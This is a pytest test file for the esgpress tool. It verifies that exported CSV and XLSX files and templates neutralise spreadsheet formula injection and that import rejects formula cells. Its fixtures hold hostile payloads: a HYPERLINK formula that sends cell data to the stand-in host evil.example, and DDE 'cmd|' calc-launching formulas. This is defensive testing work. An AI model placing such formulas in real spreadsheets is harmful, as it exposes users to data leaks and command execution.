"""Formula injection: every CSV and XLSX the project writes opens as text.

Labels, footnotes and restatement reasons come from data owners; one that
begins with ``=``, ``+``, ``-`` or ``@`` would be a live formula in a
spreadsheet (``=HYPERLINK(...)``, DDE ``=cmd|...``). The project writes
spreadsheets in four places: ``esgpress export``, the collection template
(``esgpress template``), the site's data downloads (write_data_files) and
the PDF attachment (kpi_csv); the last two use the exporter, and are checked
here as they are called. On the way in, ``esgpress import`` refuses a cell
that holds a formula and names it.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from esgpress.cli import main
from esgpress.data.loader import load_project
from esgpress.editions.i18n import Localizer

ROOT = Path(__file__).resolve().parent.parent

LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Total energy")'
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
DEFINITION = "+1+1 All energy"
HOSTILE = {
    "en: Total energy consumption}": f"en: '{LABEL}'}}",
    "The 2023 report printed 35,997; corrected to full-time plus part-time staff and interns.": (
        f'"{REASON}"'
    ),
    "en: All energy the Group used in the year, direct and indirect, converted to MWh.": (
        f"en: '{DEFINITION}'"
    ),
}


def run(project: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["--project", str(project), *args])


@pytest.fixture
def project(tmp_path: Path) -> Path:
    dest = tmp_path / "project"
    shutil.copytree(ROOT / "data", dest / "data")
    kpis = dest / "data" / "kpis.yaml"
    text = kpis.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    kpis.write_text(text, encoding="utf-8")
    return dest


def formulas(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}={c.value}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row} - {None}


def csv_fields(data: bytes) -> list[str]:
    return [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for f in row]


def test_export_xlsx_holds_no_formula(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "kpis.xlsx"
    result = run(project, "export", "--format", "xlsx", "--lang", "en", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert formulas(out) == []
    assert {LABEL, REASON} <= texts(out)  # kept word for word, as text


def test_export_csv_prefixes_formula_fields(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "kpis.csv"
    result = run(project, "export", "--format", "csv", "--lang", "en", "--out", str(out))
    assert result.exit_code == 0, result.output
    fields = csv_fields(out.read_bytes())
    assert "'" + LABEL in fields and "'" + REASON in fields
    assert LABEL not in fields and REASON not in fields
    # Negative figures are numbers, not texts: never prefixed.
    assert not [f for f in fields if f.startswith(("=", "+", "@"))]


def test_collection_template_holds_no_formula(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "collect.xlsx"
    args = ["template", "--year", "2024", "--owner", "facilities", "--lang", "en"]
    result = run(project, *args, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert formulas(out) == []
    assert {LABEL, DEFINITION} <= texts(out)


def test_site_downloads_and_pdf_attachment_hold_no_formula(project: Path, tmp_path: Path) -> None:
    from esgpress.pdf.build import kpi_csv
    from esgpress.site.datacentre import write_data_files

    dataset, problems = load_project(project)
    assert not problems.errors
    loc = Localizer(dataset, "en")
    files = write_data_files(dataset, loc, tmp_path / "files")
    assert formulas(files["xlsx"]) == [] and LABEL in texts(files["xlsx"])
    for data in (files["csv"].read_bytes(), kpi_csv(dataset, loc)):
        fields = csv_fields(data)
        assert "'" + LABEL in fields and LABEL not in fields


def test_import_refuses_formula_cells_by_name(project: Path, tmp_path: Path) -> None:
    book = tmp_path / "edited.xlsx"
    assert (
        run(project, "export", "--format", "xlsx", "--lang", "en", "--out", str(book)).exit_code
        == 0
    )
    wb = openpyxl.load_workbook(book)
    ws = wb["Environment"]
    header = [c.value for c in ws[1]]
    reason_col = header.index("Restatement reason") + 1
    value_col = header.index("Value") + 1
    ws.cell(row=2, column=value_col).value = "=1+1"
    ws.cell(row=3, column=reason_col).value = "=cmd|' /C calc'!A0"
    wb.save(book)
    before = (project / "data" / "kpis.yaml").read_bytes()
    result = run(project, "import", str(book))
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    value_ref = f"Environment!{openpyxl.utils.get_column_letter(value_col)}2"
    reason_ref = f"Environment!{openpyxl.utils.get_column_letter(reason_col)}3"
    for ref, formula in ((value_ref, "=1+1"), (reason_ref, "=cmd|' /C calc'!A0")):
        assert (
            f"{ref}: the cell holds a formula ({formula}); type the figure or text itself: "
            "formulas are not imported"
        ) in result.output
    assert (project / "data" / "kpis.yaml").read_bytes() == before
